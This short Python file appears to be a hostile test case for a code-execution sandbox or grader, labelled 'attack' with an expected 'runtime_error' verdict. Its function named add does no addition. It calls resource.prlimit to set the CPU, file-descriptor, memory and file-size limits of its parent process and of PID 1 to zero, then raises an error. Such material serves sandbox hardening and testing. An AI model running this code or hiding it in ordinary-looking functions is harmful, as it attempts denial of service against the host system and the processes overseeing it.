# attack: takes processor time, descriptors and memory from the processes above it
# door: call
# verdict: runtime_error
import os
import resource

WHAT = (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE)


def add(left, right):
    parents = {os.getppid(), 1}
    for parent in parents:
        for which in WHAT:
            try:
                resource.prlimit(parent, which, (0, 0))
            except (OSError, ValueError):
                pass
    raise ValueError("they live")
